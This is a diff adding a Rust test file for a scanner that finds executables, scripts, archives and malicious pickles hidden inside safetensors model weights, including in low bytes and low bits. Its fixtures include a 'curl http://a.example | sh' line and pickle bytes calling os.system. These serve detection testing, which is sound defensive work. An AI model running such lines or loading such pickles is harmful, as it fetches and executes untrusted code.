@@ -1,0 +1,258 @@
+use stance_core::Confidence;
+use stance_core::fact::{Artifact, TensorSignKind};
+
+use crate::testing::{artifact, survives_truncation};
+
+/// Values as training leaves them, the same each time.
+fn values(count: u32) -> Vec<u8> {
+    let mut state = 0x2545_f491_u32;
+    (0..count)
+        .flat_map(|_| {
+            state ^= state << 13;
+            state ^= state >> 17;
+            state ^= state << 5;
+            (f32::from_bits(0x3c00_0000 | (state >> 8)) - 0.011).to_le_bytes()
+        })
+        .collect()
+}
+
+fn file(dtype: &str, size: usize, data: &[u8]) -> Vec<u8> {
+    let header = format!(
+        r#"{{"w":{{"dtype":"{dtype}","shape":[{}],"data_offsets":[0,{}]}}}}"#,
+        data.len() / size,
+        data.len()
+    );
+    let mut file = (header.len() as u64).to_le_bytes().to_vec();
+    file.extend(header.as_bytes());
+    file.extend(data);
+    file
+}
+
+fn scanned(dtype: &str, size: usize, data: &[u8]) -> Artifact {
+    artifact("m.safetensors", &file(dtype, size, data))
+}
+
+fn kinds(artifact: &Artifact) -> Vec<TensorSignKind> {
+    artifact.tensor_signs.iter().map(|sign| sign.kind).collect()
+}
+
+const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0";
+
+fn windows_program() -> Vec<u8> {
+    let mut bytes = b"MZ\x90\0".to_vec();
+    bytes.resize(0x3c, 0);
+    bytes.extend(0x80_u32.to_le_bytes());
+    bytes.resize(0x80, 0x20);
+    bytes.extend(b"PE\0\0\x64\x86\x02\0");
+    bytes.resize(0x80 + 20, 0);
+    bytes.extend(b"\xf0\0\x22\0\x0b\x02");
+    bytes
+}
+
+fn payloads() -> Vec<(&'static str, Vec<u8>)> {
+    let gzip = {
+        use std::io::Write as _;
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        let lines: String = (0..400)
+            .map(|line| format!("line {line} of a payload\n"))
+            .collect();
+        encoder.write_all(lines.as_bytes()).unwrap();
+        encoder.finish().unwrap()
+    };
+    vec![
+        ("an ELF executable", ELF.to_vec()),
+        ("a Windows executable", windows_program()),
+        (
+            "a script",
+            b"#!/bin/sh\ncurl http://a.example | sh\n".to_vec(),
+        ),
+        (
+            "a script",
+            b"import os, sys; os.system('id') # and so on\n".to_vec(),
+        ),
+        (
+            "a zip archive",
+            b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0a.exe".to_vec(),
+        ),
+        (
+            "a Python pickle",
+            b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.".to_vec(),
+        ),
+        ("a Python pickle", b"cposix\nsystem\n(S'id'\ntR.".to_vec()),
+        ("gzip data", gzip),
+    ]
+}
+
+#[test]
+fn a_payload_anywhere_among_numbers_is_seen() {
+    for (title, payload) in payloads() {
+        for at in [0_usize, 4, 1021, 60_001] {
+            let mut data = values(40_000);
+            data.splice(at..at + payload.len(), payload.iter().copied());
+            let found = scanned("F32", 4, &data);
+            let sign = found
+                .tensor_signs
+                .iter()
+                .find(|sign| sign.kind == TensorSignKind::Payload)
+                .unwrap_or_else(|| panic!("{title} at {at}"));
+            assert!(sign.detail.contains(title), "{title}: {}", sign.detail);
+            assert_eq!(sign.confidence, Confidence::High, "{title}");
+        }
+    }
+}
+
+#[test]
+fn a_payload_in_low_bytes_and_bits_is_seen() {
+    for (title, payload) in payloads() {
+        // Whole low bytes of 32-bit values.
+        for width in [1_usize, 2, 3] {
+            let mut data = values(40_000);
+            let mut source = payload.iter().copied();
+            for value in data.chunks_exact_mut(4).skip(100) {
+                for low in value.iter_mut().take(width) {
+                    if let Some(byte) = source.next() {
+                        *low = byte;
+                    }
+                }
+            }
+            let found = scanned("F32", 4, &data);
+            assert!(
+                found
+                    .tensor_signs
+                    .iter()
+                    .any(|sign| sign.kind == TensorSignKind::LowBitPayload
+                        && sign.detail.contains(title)),
+                "{title} in {width} bytes: {:?}",
+                found.tensor_signs
+            );
+        }
+        // Single bits, in both orders.
+        for bits in [1_usize, 2, 4] {
+            for high_first in [true, false] {
+                let parts: Vec<u8> = payload
+                    .iter()
+                    .flat_map(|byte| {
+                        let mut parts: Vec<u8> = (0..8 / bits)
+                            .map(|part| (byte >> (part * bits)) & ((1 << bits) - 1))
+                            .collect();
+                        if high_first {
+                            parts.reverse();
+                        }
+                        parts
+                    })
+                    .collect();
+                let mut data = values(60_000);
+                let mask = (1_u8 << bits) - 1;
+                for (value, part) in data.chunks_exact_mut(4).zip(parts) {
+                    value[0] = value[0] & !mask | part;
+                }
+                let found = scanned("F32", 4, &data);
+                assert!(
+                    kinds(&found).contains(&TensorSignKind::LowBitPayload),
+                    "{title} in {bits} bits"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn honest_tensors_show_nothing() {
+    let halves: Vec<u8> = values(40_000)
+        .chunks_exact(4)
+        .flat_map(|value| [value[2], value[3]])
+        .collect();
+    let steps: Vec<u8> = (0..40_000_u32)
+        .flat_map(|step| (step as f32 / 1000.0).to_le_bytes())
+        .collect();
+    let text = "{\"vocab\": [\"import os\", \"/bin/sh\", \"#!/x\"]}".repeat(100);
+    let mask: Vec<u8> = (0..4096_u32)
+        .flat_map(|index| if index % 2 == 0 { f32::MIN } else { 0.0 }.to_le_bytes())
+        .collect();
+    for (dtype, size, data) in [
+        ("F32", 4, values(200_000)),
+        ("BF16", 2, halves),
+        ("F32", 4, steps),
+        ("U8", 1, text.into_bytes()),
+        ("F32", 4, mask),
+        ("F32", 4, vec![0; 40_000]),
+        ("I64", 8, (0..4000_u64).flat_map(u64::to_le_bytes).collect()),
+    ] {
+        let found = scanned(dtype, size, &data);
+        assert!(
+            found.tensor_signs.is_empty(),
+            "{dtype}: {:?}",
+            found.tensor_signs
+        );
+    }
+}
+
+#[test]
+fn a_pickle_in_a_tensor_of_bytes_is_judged_by_what_it_does() {
+    let found = scanned("U8", 1, b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.");
+    assert_eq!(found.tensor_signs[0].confidence, Confidence::Low);
+    assert!(
+        found
+            .pickles
+            .iter()
+            .any(|trace| trace.calls.iter().any(|call| call.callable == "os.system")),
+        "what the pickle calls is told"
+    );
+}
+
+#[test]
+fn only_what_the_limit_allows_is_read() {
+    let mut data = values(1 << 20);
+    let late = 3 << 20;
+    data.splice(late..late + ELF.len(), ELF.iter().copied());
+    let bytes = file("F32", 4, &data);
+    let interests = crate::Interests::default();
+    let scan = |tensor_bytes| {
+        let options = crate::Options {
+            limits: crate::Limits {
+                tensor_bytes,
+                ..crate::Limits::default()
+            },
+            hash: false,
+            interests: &interests,
+        };
+        crate::scan("m.safetensors", &crate::Bytes(&bytes), &options)
+    };
+    let quick = scan(1 << 20);
+    assert!(
+        quick.coverage.bytes_read < 100_000,
+        "{}",
+        quick.coverage.bytes_read
+    );
+    let full = scan(u64::MAX);
+    let found = crate::testing::artifact_of(&full);
+    assert_eq!(kinds(&found), [TensorSignKind::Payload]);
+    assert!(full.coverage.bytes_read < 2 * bytes.len() as u64);
+}
+
+#[test]
+fn no_cut_or_broken_byte_breaks_it() {
+    for (_, payload) in payloads().into_iter().take(6) {
+        survives_truncation(
+            "m.safetensors",
+            &file("F32", 4, &payload[..payload.len() & !3]),
+        );
+    }
+}
+
+/// Nothing but marks: each is looked at for what follows, and no byte more often than a bound.
+#[test]
+fn a_flood_of_marks_does_not_pile_up() {
+    for mark in [
+        &b"PK\x03\x04"[..],
+        b"#!/x",
+        b"PE\0\0",
+        b"\x1f\x8b\x08\0",
+        b"\x80\x04\x95\x05",
+    ] {
+        let data = mark.repeat((10 << 20) / mark.len());
+        let bytes = file("F32", 4, &data);
+        let report = crate::testing::report("m.safetensors", &bytes);
+        assert!(report.coverage.bytes_read < 3 * bytes.len() as u64);
+    }
+}
